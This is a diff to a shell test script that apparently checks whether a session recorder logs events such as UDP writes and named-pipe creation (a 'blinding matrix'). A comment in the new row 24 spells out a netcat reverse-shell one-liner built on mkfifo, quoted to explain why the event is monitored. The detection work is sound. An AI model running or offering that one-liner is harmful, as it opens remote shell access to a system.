@@ -175,6 +175,13 @@ want="recorded once"
 case $udp in 0) got="not recorded" ;; 1) got="recorded once" ;; *) got="recorded $udp times" ;; esac
 row 23 user "UDP write() on a connected socket, 3 datagrams" "$want" "$got" "session.network (operation 1), the socket's first datagram to its peer; tracepoint backend: from Linux 6.3 (sock:sock_send_length)"
 
+# ---- as the session user: a named pipe, the plumbing of a reverse shell -------
+# (mkfifo f; nc host port <f | sh >f): made by mknodat(2), no open of it yet
+ROW=24; run "$U" "mkfifo -m 600 $W/r24-fifo"
+fifo=$(sc_jl "$SID" 'select(.event == "session.disk" and .change == "mknod" and .path == $p and
+	.file_type == "fifo") | .ei' --arg p "$W/r24-fifo" | wc -l)
+row 24 user "named pipe (mkfifo), as a reverse shell's plumbing" recorded "$(yes_no "$fifo")" "session.disk, change mknod, file_type fifo"
+
 echo "---- blinding matrix ($backend backend, kernel $(uname -r)) ----"
 cat "$MATRIX"
 [ -n "${SR_MATRIX_OUT:-}" ] && cp "$MATRIX" "$SR_MATRIX_OUT"
